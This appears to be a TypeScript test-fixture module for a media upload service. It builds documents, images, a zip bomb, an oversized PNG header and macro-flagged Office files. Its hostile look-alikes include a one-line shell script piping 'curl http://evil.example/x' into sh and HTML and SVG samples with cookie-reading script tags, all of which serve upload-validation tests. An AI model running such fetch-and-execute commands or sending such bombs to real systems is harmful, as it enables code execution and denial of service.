// Test files made on the spot: real PDF, Office (hand-built ZIP), images (sharp), hostile look-alikes,
// and multipart bodies. Used by the media tests only.
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { newBaseName, type MediaStorage } from './media.storage.ts';

// ---------------------------------------------------------------- ZIP writer

export interface ZipEntryInput {
  name: string;
  data?: Buffer;
  /** Deflate the data (default), or store it. */
  method?: 'deflate' | 'store';
  /** Already-deflated data with its real size and CRC (archive bombs too big to hold inflated). */
  deflated?: { data: Buffer; size: number; crc: number };
  /** Sets the "encrypted" flag (the data itself is left as is). */
  encrypted?: boolean;
}

/** A ZIP archive built by hand: local file headers, data, central directory, end record. */
export function buildZip(entries: readonly ZipEntryInput[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const raw = entry.data ?? Buffer.alloc(0);
    const method = entry.deflated || entry.method !== 'store' ? 8 : 0;
    const body = entry.deflated?.data ?? (method === 8 ? zlib.deflateRawSync(raw) : raw);
    const size = entry.deflated?.size ?? raw.length;
    const crc = entry.deflated?.crc ?? zlib.crc32(raw);
    // Bit 11: names are UTF-8; bit 0: encrypted.
    const flags = 0x0800 | (entry.encrypted ? 1 : 0);

    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(0, 10);
    local.writeUInt16LE(0x21, 12);
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);

    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt16LE(0, 12);
    central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(crc >>> 0, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);

    locals.push(local, name, body);
    centrals.push(central, name);
    offset += local.length + name.length + body.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** `megabytes` of zeros, deflated a megabyte at a time (never held inflated). */
export async function deflatedZeros(megabytes: number): Promise<{ data: Buffer; size: number; crc: number }> {
  const chunk = Buffer.alloc(1024 * 1024);
  const deflate = zlib.createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (data: Buffer) => out.push(data));
  const done = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  let crc = 0;
  for (let i = 0; i < megabytes; i++) {
    crc = zlib.crc32(chunk, crc);
    if (!deflate.write(chunk)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return { data: Buffer.concat(out), size: megabytes * chunk.length, crc };
}

// ---------------------------------------------------------------- documents

const xml = (text: string) => Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${text}`);
const RELS = xml(
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="MAIN"/>' +
    '</Relationships>',
);

function contentTypes(mainPart: string, mainType: string, extra = ''): Buffer {
  return xml(
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      `<Override PartName="/${mainPart}" ContentType="${mainType}"/>${extra}</Types>`,
  );
}

/** A minimal but well-formed Word document (.docx). */
export function makeDocx(): Buffer {
  return buildZip([
    { name: '[Content_Types].xml', data: contentTypes('word/document.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml') },
    { name: '_rels/.rels', data: Buffer.from(RELS.toString().replace('MAIN', 'word/document.xml')) },
    {
      name: 'word/document.xml',
      data: xml('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>WEFE</w:t></w:r></w:p></w:body></w:document>'),
    },
  ]);
}

/** A macro-enabled Word document (.docm): macro content type and a VBA project. */
export function makeDocm(): Buffer {
  return buildZip([
    {
      name: '[Content_Types].xml',
      data: contentTypes(
        'word/document.xml',
        'application/vnd.ms-word.document.macroEnabled.main+xml',
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    },
    { name: '_rels/.rels', data: Buffer.from(RELS.toString().replace('MAIN', 'word/document.xml')) },
    { name: 'word/document.xml', data: xml('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>') },
    { name: 'word/vbaProject.bin', data: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]) },
  ]);
}

/** A minimal spreadsheet (.xlsx); `withMacros` adds a VBA project while keeping the plain content type. */
export function makeXlsx({ withMacros = false } = {}): Buffer {
  return buildZip([
    { name: '[Content_Types].xml', data: contentTypes('xl/workbook.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml') },
    { name: '_rels/.rels', data: Buffer.from(RELS.toString().replace('MAIN', 'xl/workbook.xml')) },
    {
      name: 'xl/workbook.xml',
      data: xml('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Data" sheetId="1"/></sheets></workbook>'),
    },
    { name: 'xl/worksheets/sheet1.xml', data: xml('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>') },
    ...(withMacros ? [{ name: 'xl/vbaProject.bin', data: Buffer.alloc(64, 1) }] : []),
  ]);
}

/** A .docx whose only content is a 200 MB entry of zeros (about 200 KB deflated). */
export async function makeZipBombDocx(): Promise<Buffer> {
  return buildZip([
    { name: '[Content_Types].xml', data: contentTypes('word/document.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml') },
    { name: 'word/document.xml', deflated: await deflatedZeros(200) },
  ]);
}

/** A small, valid one-page PDF (correct xref offsets). */
export function makePdf(text = 'WEFE Nexus Hub'): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    null,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  const stream = `BT /F1 12 Tf 20 50 Td (${text}) Tj ET`;
  objects[3] = `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`;
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** A PDF padded (inside a comment after %%EOF) to exactly `bytes` bytes. */
export function makePdfOfSize(bytes: number): Buffer {
  const pdf = makePdf();
  return Buffer.concat([pdf, Buffer.alloc(bytes - pdf.length, 0x20)]);
}

/** An OLE2 container that looks like a Word 97 document (directory names in UTF-16), optionally with VBA. */
export function makeOleDoc({ withMacros = false } = {}): Buffer {
  const names = ['Root Entry', 'WordDocument', '1Table', ...(withMacros ? ['Macros', 'VBA', '_VBA_PROJECT'] : [])];
  const directory = Buffer.concat(
    names.map((name) => {
      const entry = Buffer.alloc(128);
      entry.write(name, 0, 'utf16le');
      entry.writeUInt16LE((name.length + 1) * 2, 64);
      return entry;
    }),
  );
  return Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), directory, Buffer.alloc(512)]);
}

// ---------------------------------------------------------------- images

export const makePng = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#1f6f8b' } }).png().toBuffer();
export const makeJpeg = (width: number, height: number, orientation?: number) => {
  const image = sharp({ create: { width, height, channels: 3, background: '#d99a2b' } }).jpeg();
  return (orientation ? image.withMetadata({ orientation }).withExifMerge({ IFD0: { Artist: 'secret-author-exif' } }) : image).toBuffer();
};
export const makeGif = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#6b8e23' } }).gif().toBuffer();
export const makeWebp = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#2e8b57' } }).webp().toBuffer();

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/** A PNG header claiming width x height pixels, with one row of data: tiny on disk, huge decoded. */
export function makeHugePngHeader(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // RGB
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(1 + width * 3))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

// ---------------------------------------------------------------- hostile look-alikes

export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
export const HTML_PAGE = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n');
export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
);
/** The start of a Windows executable: "MZ", the DOS stub message, a PE header offset. */
export const WINDOWS_EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.from('This program cannot be run in DOS mode.'), Buffer.alloc(200)]);
export const ELF_BINARY = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(120)]);

// ---------------------------------------------------------------- multipart

export type Part = { name: string; value: string } | { name: string; filename: string; content: Buffer; contentType?: string };

/** A multipart/form-data body and its content type. */
export function multipart(parts: readonly Part[]): { payload: Buffer; headers: Record<string, string> } {
  const boundary = `----wefe${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    if ('value' in part) {
      chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"\r\n\r\n${part.value}\r\n`));
    } else {
      const filename = part.filename.replace(/"/g, '%22');
      chunks.push(
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"; filename="${filename}"\r\n` +
            `Content-Type: ${part.contentType ?? 'application/octet-stream'}\r\n\r\n`,
        ),
        part.content,
        Buffer.from('\r\n'),
      );
    }
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

// ---------------------------------------------------------------- disk

/** The names in uploads/tmp and in the files' store (the folder or the bucket), sorted. */
export async function listUploads(storage: MediaStorage): Promise<{ tmp: string[]; files: string[] }> {
  const tmp = fs.existsSync(storage.tmpDir) ? fs.readdirSync(storage.tmpDir).sort() : [];
  const files: string[] = [];
  for await (const entry of storage.files.list()) files.push(entry.name);
  return { tmp, files: files.sort() };
}

/** A stored file's bytes, or undefined when the store has no such file. */
export async function readStored(storage: MediaStorage, name: string): Promise<Buffer | undefined> {
  const stored = await storage.files.read(name);
  if (!stored) return undefined;
  const chunks: Buffer[] = [];
  for await (const chunk of stored.stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

/** Whether the store holds `name`. */
export async function isStored(storage: MediaStorage, name: string): Promise<boolean> {
  return (await storage.files.size(name)) !== undefined;
}

/** Puts `content` in the store as `name`, as a crash or a foreign tool might leave it. */
export async function putStored(storage: MediaStorage, name: string, content: string | Buffer): Promise<void> {
  const file = path.join(storage.tmpDir, `${newBaseName()}.put`);
  fs.writeFileSync(file, content);
  await storage.files.moveIn(name, file, 'application/octet-stream');
}
